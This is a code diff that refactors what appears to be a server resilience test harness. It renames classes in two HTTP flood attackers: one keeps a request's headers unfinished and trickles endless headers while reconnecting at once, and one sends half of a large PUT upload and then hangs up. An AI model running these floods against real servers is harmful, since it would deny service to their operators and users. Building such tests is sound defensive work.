@@ -4,36 +4,40 @@ from __future__ import annotations
 
 from itertools import count
 
+from attacks.attackers.base import AttackContext, Attacker, request
 from attacks.connection import CLOSED, RawConnection
-from attacks.kinds.base import Kind, Scene, request
 
 
-class Reconnecting(Kind):
+class Reconnecting(Attacker):
     """Sends unfinished headers, and connects again at once when thrown out."""
 
     name = "flood: reconnecting at once"
     pause = 0.02
 
-    async def attack(self, connection: RawConnection, scene: Scene, number: int) -> str:
+    async def attack(
+        self, connection: RawConnection, context: AttackContext, number: int
+    ) -> str:
         """Keep the empty line back."""
-        connection.send(request(scene, "GET", "/api/")[:-2])
+        connection.send(request(context, "GET", "/api/")[:-2])
         headers = (b"X-%d: x\r\n" % one for one in count())
         return await connection.trickle(headers, pace=1)
 
 
-class HangingUp(Kind):
+class HangingUp(Attacker):
     """Sends half a request and hangs up."""
 
     name = "flood: hanging up"
     pause = 1
     uploads = True
 
-    async def attack(self, connection: RawConnection, scene: Scene, number: int) -> str:
+    async def attack(
+        self, connection: RawConnection, context: AttackContext, number: int
+    ) -> str:
         """Leave a body unsent, so that the server has begun with it."""
-        path = scene.uploads[number % len(scene.uploads)]
-        connection.send(request(scene, "PUT", path, "Content-Length: 1000000"))
+        path = context.uploads[number % len(context.uploads)]
+        connection.send(request(context, "PUT", path, "Content-Length: 1000000"))
         connection.send(bytes(1000))
         return CLOSED
 
 
-KINDS: tuple[Kind, ...] = (Reconnecting(), HangingUp())
+ATTACKER_TYPES: tuple[Attacker, ...] = (Reconnecting(), HangingUp())
